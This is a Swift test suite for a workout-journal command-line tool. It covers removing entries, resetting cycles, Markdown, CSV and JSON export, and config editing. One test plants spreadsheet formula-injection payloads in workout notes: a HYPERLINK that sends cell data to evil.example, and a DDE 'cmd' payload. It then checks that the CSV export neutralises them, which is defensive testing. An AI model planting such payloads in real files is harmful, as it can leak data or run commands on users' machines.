import Foundation
import PlusCore
import PlusStore
import PlusTestSupport
import Testing

@testable import PlusFormat

/// `rm`, `reset`, `export` and `config`: the commands that write, remove or hand data out.
@Suite struct DataCommandTests {
    let initArguments = ["init", "j", "--date", "2026-08-31", "--tm", "squat=315", "--tm", "bench=225", "--tm", "deadlift=405", "--tm", "press=135"]

    /// A fresh journal with `sessions` sheets written by `next` (one a day from 2026-09-01) and ticked.
    func journal(_ folder: TemporaryFolder, sessions: Int) throws -> String {
        _ = plusmd(initArguments, in: folder.path)
        let root = folder.path + "/j"
        for index in 0..<sessions {
            let date = String(format: "2026-09-%02d", index + 1)
            let next = plusmd(["next", "--json", "--date", date], in: root)
            let path = try ReportJSON.decode(NextReport.self, from: next.out).path
            try folder.write("j/\(path)", try folder.read("j/\(path)").ticked(amrap: 7))
        }
        return root
    }

    @Test func removingTheNewestWorkoutRewindsThePosition() throws {
        let folder = TemporaryFolder()
        let root = try journal(folder, sessions: 5)
        #expect(try ReportJSON.decode(StatusReport.self, from: plusmd(["status", "--json"], in: root).out).week == 2)
        let refused = plusmd(["rm", "2026-09-05"], in: root)
        #expect(refused.status == 4, "no terminal and no --yes")
        #expect(refused.err.contains("Will remove 2026/2026-09-05-squat.md: Squat · cycle 1 · week 2 (3s) on 2026-09-05, 11 of 11 sets ticked"))
        #expect(FileManager.default.fileExists(atPath: root + "/2026/2026-09-05-squat.md"))
        let declined = plusmd(["rm", "2026-09-05"], in: root, terminalInput: ["n"])
        #expect(declined.status == 0 && declined.err.contains("Nothing was removed."))
        let removed = plusmd(["rm", "2026-09-05"], in: root, terminalInput: ["y"])
        #expect(removed.status == 0, "\(removed.err)")
        #expect(removed.out == "Removed 2026/2026-09-05-squat.md\nNow at cycle 1, week 2; next: squat\n")
        let older = plusmd(["rm", "2026/2026-09-02-bench.md", "--yes"], in: root)
        #expect(older.status == 0)
        #expect(older.out.contains("Now at cycle 1, week 1; next: bench"), "an older workout reopens its week")
        #expect(plusmd(["rm", "2026-09-02", "--yes"], in: root).status == 1)
    }

    @Test func anAmbiguousDateIsRefusedWithTheList() throws {
        let folder = TemporaryFolder()
        let root = try journal(folder, sessions: 1)
        _ = plusmd(["next", "--date", "2026-09-01"], in: root)
        let result = plusmd(["rm", "2026-09-01", "--yes"], in: root)
        #expect(result.status == 4)
        #expect(result.err.contains("2026-09-01 matches 2 workouts; nothing was removed. Add --lift LIFT or give the PATH:\n  2026/2026-09-01-bench.md  bench, cycle 1 week 1\n  2026/2026-09-01-squat.md  squat"))
        let one = plusmd(["rm", "2026-09-01", "--lift", "bench", "--yes"], in: root)
        #expect(one.status == 0)
        #expect(plusmd(["rm", "plusmd.yaml", "--yes"], in: root).status == 1, "only journal entries can be removed")
    }

    @Test func inAGitJournalRmSaysHowToGetTheFileBack() throws {
        let folder = TemporaryFolder()
        let root = try journal(folder, sessions: 2)
        let git = ["-c", "user.name=t", "-c", "user.email=t@example.com"]
        for arguments in [["init", "-q"], ["add", "."], git + ["commit", "-qm", "journal"]] {
            let process = Process()
            process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
            process.arguments = ["git", "-C", root] + arguments
            try process.run()
            process.waitUntilExit()
            try #require(process.terminationStatus == 0, "git is needed for this test")
        }
        let result = plusmd(["rm", "2026-09-02", "--yes"], in: root)
        #expect(result.err.contains("It is still in git: `git restore 2026/2026-09-02-bench.md` brings it back."))
    }

    @Test func resetInTheMiddleOfWeekTwo() throws {
        let folder = TemporaryFolder()
        let root = try journal(folder, sessions: 6)  // week 1, then squat and bench of week 2
        _ = plusmd(["next", "--date", "2026-09-07"], in: root)  // deadlift, untouched
        _ = plusmd(["next", "--date", "2026-09-07", "--lift", "press"], in: root)
        let press = "j/2026/2026-09-07-press.md"
        try folder.write(press, try folder.read(press).replacingFirst("- [ ] ", with: "- [x] "))
        let refused = plusmd(["reset"], in: root)
        #expect(refused.status == 4)
        #expect(refused.err.contains("Reset on 2026-11-30: cycle 2 starts at week 1 with the training maxes in force (squat 315, bench 225, deadlift 405, press 135 lb); cycle 1 ends at week 2.\n  Remove 2026/2026-09-07-deadlift.md (no set ticked).\n  Keep 2026/2026-09-07-press.md as a partial workout (1 of 11 sets ticked).\n"))
        let reset = plusmd(["reset", "--date", "2026-09-08"], in: root, terminalInput: ["yes"])
        #expect(reset.status == 0, "\(reset.err)")
        #expect(reset.out == "Now at cycle 2, week 1; next: squat (was cycle 1, week 2)\n")
        #expect(!FileManager.default.fileExists(atPath: root + "/2026/2026-09-07-deadlift.md"))
        #expect(FileManager.default.fileExists(atPath: root + "/" + "2026/2026-09-07-press.md"))
        #expect(try folder.read("j/2026/2026-09-08-reset.md").hasPrefix("---\nentry: reset\ndate: 2026-09-08\ncycle: 2\n---\n"))
        let next = plusmd(["next", "--date", "2026-09-09", "--json"], in: root)
        let planned = try ReportJSON.decode(NextReport.self, from: next.out)
        #expect(planned.cycle == 2 && planned.week == 1 && planned.trainingMax == Weight(315))
        let again = plusmd(["reset", "--yes"], in: root)
        #expect(again.status == 1)
        #expect(again.err.contains("nothing to reset"))
    }

    @Test func markdownExportParsesBackToTheSameSets() throws {
        let folder = TemporaryFolder()
        let journal = try folder.copy(fixture: "examples/journal")
        // Run inside the journal, an export goes to $HOME, never into the synced folder.
        let inside = plusmd(["export"], in: journal)
        #expect(inside.status == 2)
        #expect(inside.err.contains("give -o FILE"))
        let result = plusmd(["export"], in: journal, environment: ["HOME": folder.path])
        #expect(result.status == 0, "\(result.err)")
        #expect(result.err == "Wrote \(folder.path)/plusmd-export-20261130-184502.md: 34 workouts\n")
        #expect(!FileManager.default.fileExists(atPath: journal + "/plusmd-export-20261130-184502.md"))
        let text = try String(contentsOfFile: folder.path + "/plusmd-export-20261130-184502.md", encoding: .utf8)
        for section in ["## Program", "## Settings", "## Position", "## Training maxes", "## Personal records", "## Workouts"] {
            #expect(text.contains("\n\(section)\n"), "\(section)")
        }
        #expect(text.contains("- 2026-10-20, cycle 2, press: 135 -> 140 lb, set by hand"))
        // Parse the export with cmark: each workout heading, its kind headings and set items.
        var exported: [[String]] = []
        var kind = ""
        for block in MarkdownReader.blocks(of: text) {
            switch block {
            case .heading(3, _, _): exported.append([])
            case .heading(4, let title, _): kind = title
            case .listItem(let item, _, _) where !exported.isEmpty:
                guard case .success(let set) = SetLineParser.parse(item) else {
                    Issue.record("set line does not parse: \(item)")
                    continue
                }
                exported[exported.count - 1].append("\(kind) \(set.weight) x \(set.reps) \(set.isDone)")
            default: continue
            }
        }
        let loaded = try JournalLoader.load(root: journal).journal.workouts
        let expected = loaded.map { $0.sets.map { "\($0.kind.heading) \($0.weight) x \($0.reps) \($0.isDone)" } }
        #expect(exported.count == 34)
        #expect(exported == expected)
        #expect(plusmd(["export", "-o", folder.path + "/plusmd-export-20261130-184502.md"], in: journal).status == 4, "never over an existing file")
    }

    @Test func csvAndJSONExports() throws {
        let folder = TemporaryFolder()
        let journal = try folder.copy(fixture: "examples/journal")
        let csv = plusmd(["export", "--format", "csv", "-o", "-"], in: journal)
        let rows = csv.out.components(separatedBy: "\r\n")
        #expect(rows[0] == "date,lift,cycle,week,kind,set,target_weight,target_reps,weight,reps,amrap,e1rm,unit,written_weight,written_unit,notes,supplemental,status")
        #expect(rows.contains("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"First day of the program. 270 moved well; stopped at 8 with one more maybe in the tank. BBB at 160 felt light for the first three sets, not for the last two.\",,done"))
        #expect(rows.contains { $0.hasPrefix("2026-11-24,bench,3,1,bbb,5,120,10,,,false,,lb,") && $0.hasSuffix(",open") }, "a set not ticked has no done weight")
        // The default program's supplemental sets say `bbb`; other kinds leave that column empty.
        #expect(rows.filter { $0.contains(",bbb,") }.allSatisfy { $0.hasSuffix(",bbb,done") || $0.hasSuffix(",bbb,open") || $0.hasSuffix(",bbb,skipped") })
        #expect(rows.filter { $0.contains(",working,") || $0.contains(",warmup,") }.allSatisfy { $0.hasSuffix(",,done") || $0.hasSuffix(",,open") || $0.hasSuffix(",,skipped") })
        let json = plusmd(["export", "--format", "json", "-o", "out.json"], in: journal)
        #expect(json.status == 0)
        let object = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: journal + "/out.json"))) as? [String: Any]
        #expect((object?["workouts"] as? [Any])?.count == 34)
        #expect((object?["position"] as? [String: Any])?["cycle"] as? Int == 3)
        let settings = try #require(object?["settings"] as? [String: Any])
        #expect(settings["tm_percent"] as? String == "90" && settings["bar"] as? String == "45")
        #expect(settings["plates"] as? String == "[45, 35, 25, 10, 5, 2.5]")
        let records = try #require(object?["personal_records"] as? [String: Any])
        let amraps = try #require(records["amrap_sets"] as? [String: [[String: Any]]])
        #expect(amraps.mapValues(\.count) == ["squat": 7, "bench": 7, "deadlift": 6, "press": 6])
        #expect(amraps["squat"]?.filter { $0["pr"] as? Bool == true }.compactMap { $0["e1rm"] as? Double } == [342, 350, 351, 351.5, 370])
        let best = try #require(records["best"] as? [String: [String: Any]])
        #expect(best["bench"]?["e1rm"] as? Double == 264 && best["bench"]?["path"] as? String == "2026/2026-10-20-bench.md")
        let history = try #require(object?["training_max_history"] as? [[String: Any]])
        let changes = history.map { "\($0["lift"] ?? "") \($0["from"] as? Double ?? 0)→\($0["to"] as? Double ?? 0) c\($0["cycle"] ?? "") \(($0["cause"] as? [String: Any])?["kind"] ?? "")" }
        #expect(changes == [
            "squat 0.0→315.0 c1 start", "bench 0.0→225.0 c1 start", "deadlift 0.0→405.0 c1 start", "press 0.0→135.0 c1 start",
            "bench 225.0→232.2 c2 amrap", "deadlift 405.0→415.8 c2 amrap", "press 135.0→140.0 c2 manual",
            "squat 315.0→333.0 c3 amrap", "bench 232.2→237.6 c3 amrap", "press 140.0→141.75 c3 amrap",
        ])
        #expect(plusmd(["export", "--format", "xml"], in: journal).status == 2)
    }

    @Test func csvExportNeutralisesNotesASpreadsheetWouldRunAsAFormula() throws {
        let folder = TemporaryFolder()
        let journal = try folder.copy(fixture: "examples/journal")
        let hostile = [
            "2026/2026-09-01-squat.md": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "2026/2026-09-03-bench.md": "@SUM(1+1)*cmd|' /C calc'!A0",
        ]
        for (path, note) in hostile {
            let text = try String(contentsOfFile: journal + "/" + path, encoding: .utf8)
            let notes = try #require(text.range(of: "## Notes\n\n"))
            try (String(text[..<notes.upperBound]) + note + "\n").write(toFile: journal + "/" + path, atomically: false, encoding: .utf8)
        }
        let csv = plusmd(["export", "--format", "csv", "-o", "-"], in: journal)
        #expect(csv.status == 0, "\(csv.err)")
        let rows = csv.out.components(separatedBy: "\r\n")
        #expect(rows.contains { $0.hasPrefix("2026-09-01,squat,1,1,working,3,270,5,270,8,true,342,lb,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") }, "\(rows.prefix(12))")
        #expect(rows.contains { $0.contains(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,,") || $0.contains(",lb,,,'@SUM(1+1)*cmd|' /C calc'!A0,bbb,") })
        for row in rows.dropFirst() where !row.isEmpty {
            let cells = row.split(separator: ",", omittingEmptySubsequences: false)
            #expect(!"=+-@".contains(cells.dropLast(2).last?.first ?? "x"), "no cell starts a formula: \(row)")
            #expect(Double(cells[2]) != nil && Double(cells[6]) != nil, "numbers stay numbers: \(row)")
        }
        #expect(ExportCSV.neutralised("+1 rep next time") == "'+1 rep next time")
        #expect(ExportCSV.neutralised("-5 lb, back off") == "'-5 lb, back off")
        #expect(ExportCSV.neutralised("\tcmd") == "'\tcmd")
        #expect(ExportCSV.neutralised("\r\n=1+1") == "'\r\n=1+1")
        #expect(ExportCSV.neutralised("Depth felt good; 5+ reps") == "Depth felt good; 5+ reps")
        let json = plusmd(["export", "--format", "json", "-o", "-"], in: journal)
        let export = try ReportJSON.decode(ExportReport.self, from: json.out)
        #expect(export.workouts.first { $0.path == "2026/2026-09-01-squat.md" }?.notes == hostile["2026/2026-09-01-squat.md"], "the JSON export keeps the raw note")
    }

    @Test func configShowsEverySettingAndSetsOneKeepingTheLayout() throws {
        let folder = TemporaryFolder()
        _ = plusmd(initArguments, in: folder.path)
        let root = folder.path + "/j"
        let shown = plusmd(["config"], in: root)
        #expect(shown.status == 0)
        #expect(shown.out.hasPrefix("training\n  training_max.squat  "))
        #expect(shown.out.contains("\ntimer\n") && shown.out.contains("\nequipment\n") && shown.out.contains("\nprogram\n") && shown.out.contains("\ndata\n"))
        let before = try folder.read("j/plusmd.yaml")
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: root + "/plusmd.yaml")
        let set = plusmd(["config", "set", "bbb.percent", "60"], in: root)
        #expect(set.status == 0, "\(set.err)")
        #expect(set.out == "bbb.percent: 50 → 60\n")
        #expect(try folder.read("j/plusmd.yaml") == before.replacingFirst("  percent: 50\n", with: "  percent: 60\n"))
        let mode = try FileManager.default.attributesOfItem(atPath: root + "/plusmd.yaml")[.posixPermissions] as? Int
        #expect(mode == 0o600)
        let config = try ReportJSON.decode(ConfigReport.self, from: plusmd(["config", "--json"], in: root).out)
        #expect(config.groups.flatMap(\.settings).first { $0.key == "bbb.percent" }?.value == .number(Weight(60)))
        let plate = plusmd(["config", "set", "plates", "45,-5"], in: root)
        #expect(plate.status == 2)
        #expect(plate.err.contains("a plate of '-5' is refused: plate sizes must be positive weights"))
        let percent = plusmd(["config", "set", "bbb.percent", "150"], in: root)
        #expect(percent.err.contains("bbb.percent '150' must be a percentage from 10 to 100; plusmd.yaml was not changed"))
        // The journal moves to kg going forward; the TMs are converted into a `units` entry.
        let switched = plusmd(["config", "set", "units", "kg"], in: root)
        #expect(switched.status == 0, "\(switched.err)")
        #expect(switched.out.hasPrefix("units: lb → kg (bar 20, plates 25, 20, 15, 10, 5, 2.5, 1.25)\n"))
        let settings = try folder.read("j/plusmd.yaml")
        #expect(settings.contains("units: kg") && settings.contains("bar: 20"))
        let entries = try FileManager.default.subpathsOfDirectory(atPath: root).filter { $0.hasSuffix(".md") }
        #expect(try entries.contains { try folder.read("j/" + $0).contains("cause: units\nunits: kg\n") })
        #expect(plusmd(["check"], in: root).status == 0)
        let kg = try ReportJSON.decode(TrainingMaxReport.self, from: plusmd(["tm", "--json"], in: root).out)
        #expect(kg.units == .kg)
        // …and back: kilograms through pounds drift by at most 0.01 lb.
        #expect(plusmd(["config", "set", "units", "lb", "--bar", "45"], in: root).status == 0)
        #expect(try ReportJSON.decode(TrainingMaxReport.self, from: plusmd(["tm", "--json"], in: root).out).units == .lb)
    }

    @Test func atomicReplaceRefusesAFileThatChangedSinceItWasRead() throws {
        let folder = TemporaryFolder()
        let path = folder.path + "/file.md"
        try "one\n".write(toFile: path, atomically: false, encoding: .utf8)
        #expect(throws: StoreError.changedSinceRead(path)) {
            try AtomicFile.replace(root: folder.path, relativePath: "file.md", expectedOriginal: "zero\n", contents: "two\n")
        }
        try AtomicFile.replace(root: folder.path, relativePath: "file.md", expectedOriginal: "one\n", contents: "two\n")
        #expect(try folder.read("file.md") == "two\n")
        #expect(folder.files() == ["file.md"], "no temp file is left behind")
    }
}
